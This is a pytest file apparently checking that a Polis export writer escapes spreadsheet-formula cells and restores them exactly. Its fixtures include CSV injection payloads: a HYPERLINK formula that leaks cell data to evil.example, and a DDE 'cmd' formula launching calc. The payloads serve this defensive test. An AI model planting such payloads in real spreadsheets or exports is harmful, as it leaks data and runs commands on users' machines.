"""Text cells a spreadsheet would run are escaped on writing and restored on reading, exactly."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from deliberate.polis_format import (
    PolisComment,
    PolisExport,
    PolisParticipant,
    PolisVote,
    read_export,
    write_export,
)
from deliberate.polis_format.cells import FORMULA_STARTS, restore_cell, safe_cell

from .csvfiles import read_rows

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@A1",
    "\t=x",
    "\rcarriage return first",
    "'=a statement that really starts with an apostrophe",
    "''=two of them",
    "'just an apostrophe",
    "A plain statement, with a comma.",
    "-",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_escaping_is_undone_exactly_and_no_escaped_cell_starts_a_formula(text: str) -> None:
    escaped = safe_cell(text)
    assert restore_cell(escaped) == text
    assert not str(escaped).startswith(FORMULA_STARTS)


def test_numbers_are_never_escaped() -> None:
    assert safe_cell(-1) == -1 and safe_cell(0) == 0


def hostile_export() -> PolisExport:
    comments = [
        PolisComment(i, i % 3, text, 1, 1_500_000_000_000 + i) for i, text in enumerate(HOSTILE)
    ]
    votes = [
        PolisVote(p, c.comment_id, (-1, 0, 1)[(p + c.comment_id) % 3], 1_500_000_100_000 + p)
        for p in range(4)
        for c in comments
    ]
    return PolisExport(
        topic="=cmd|' /C calc'!A0",
        url=None,
        description="-a description that starts with a minus",
        comments=comments,
        votes=votes,
        vote_events=votes,
        participants=[PolisParticipant(p, ("@xid", "=x", None, "ok")[p], None) for p in range(4)],
    )


def test_written_cells_never_start_a_formula_and_read_back_as_written(tmp_path: Path) -> None:
    export = hostile_export()
    folder = write_export(export, tmp_path / "out")
    for path in folder.iterdir():
        rows = read_rows(path)
        for row in rows:
            for cell in row:
                if cell.lstrip("-").isdigit():
                    continue  # a number: -1 is a disagreement
                assert not cell.startswith(FORMULA_STARTS), (path.name, cell)
    back = read_export(folder)
    assert [c.text for c in back.comments] == list(HOSTILE)
    assert back.topic == export.topic and back.description == export.description
    assert [p.xid for p in back.participants] == ["@xid", "=x", None, "ok"]
    assert back.votes == export.votes
    # -1 stays a number in votes.csv and in the matrix
    with (folder / "votes.csv").open(newline="") as handle:
        assert "-1" in {row["vote"] for row in csv.DictReader(handle)}


def test_written_again_the_files_are_the_same_bytes(tmp_path: Path) -> None:
    first = write_export(hostile_export(), tmp_path / "first")
    second = write_export(read_export(first), tmp_path / "second")
    for path in sorted(first.iterdir()):
        assert (second / path.name).read_bytes() == path.read_bytes(), path.name
